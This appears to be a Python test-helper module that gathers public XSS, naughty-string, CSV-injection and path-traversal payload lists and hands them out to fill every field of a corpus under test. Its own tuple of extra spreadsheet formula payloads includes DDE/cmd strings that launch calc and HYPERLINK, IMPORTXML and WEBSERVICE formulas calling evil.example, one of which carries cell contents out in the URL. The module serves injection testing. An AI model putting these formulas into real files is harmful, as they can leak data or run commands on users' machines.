"""Hostile texts that others collected, and ways to put them into every field of a corpus."""

import json
from collections.abc import Iterator, Sequence
from functools import cache
from itertools import count
from typing import Final

from tests.referees import files, needs

XSS: Final = "xss-payload-list/Intruder/*.txt"
NAUGHTY: Final = "big-list-of-naughty-strings/blns.json"
FORMULAS: Final = "csv-injection-payloads/Intruder/*.txt"
TRAVERSALS: Final = "traversal-payloads/*.txt"

needs_lists = needs(XSS)

# The public list of formulas has five lines; these are the other ways in that are known.
MORE_FORMULAS: Final = (
    *("=1+1", "+1+1", "-1+1", "@SUM(1+1)", "|calc", "%0A=1+1", "\t=1+1", "\r=1+1", "\n=1+1"),
    *(" =1+1", "\u00a0=1+1", "\ufeff=1+1", "\u200b=1+1", "\u3000=1+1", "'=1+1", "''=1+1"),
    *("\uff1d1+1", "\uff0b1", "\uff0d1", "\uff20SUM(1)", "\uff5cx", "\uff051", "=\u202e1+1"),
    *("=cmd|'/C calc'!A0\",\"", '";=1+1;"', '",=1+1,"', '"\r\n=1+1\r\n"', "a\r\n=1+1"),
    *('=HYPERLINK("https://evil.example?"&A1,"x")', '=IMPORTXML("https://evil.example","//a")'),
    *('DDE("cmd";"/C calc";"!A0")A0', '=WEBSERVICE("https://evil.example")', "=-1", "+-1"),
)


@cache
def hostile() -> tuple[str, ...]:
    """The lists for pages and spreadsheets and the naughty strings; each text once."""
    return tuple(dict.fromkeys((*lines(XSS), *naughty(), *lines(FORMULAS), *MORE_FORMULAS)))


@cache
def naughty() -> tuple[str, ...]:
    """The big list of naughty strings, without the empty one."""
    return tuple(
        filter(None, (text for file in files(NAUGHTY) for text in _strings(file.read_bytes())))
    )


@cache
def lines(pattern: str) -> tuple[str, ...]:
    """The lines of a suite's files that are not blank, each once."""
    found = [
        line.decode("utf-8", "replace")
        for file in files(pattern)
        for line in file.read_bytes().split(b"\n")
    ]
    return tuple(dict.fromkeys(line for line in found if line.strip()))


def batches(texts: Sequence[str], size: int) -> Iterator[Sequence[str]]:
    """Cut a list into pieces."""
    return (texts[start : start + size] for start in range(0, len(texts), size))


class Dealer:
    """Gives each text that it is asked for another payload, and remembers which."""

    def __init__(self, texts: Sequence[str], start: int = 0) -> None:
        self.texts = texts
        self.given: list[str] = []
        self._places = count(start)

    def __call__(self, _: str) -> str:
        self.given.append(self.texts[next(self._places) % len(self.texts)])
        return self.given[-1]


def _strings(data: bytes) -> list[str]:
    found: list[str] = json.loads(data)
    return found
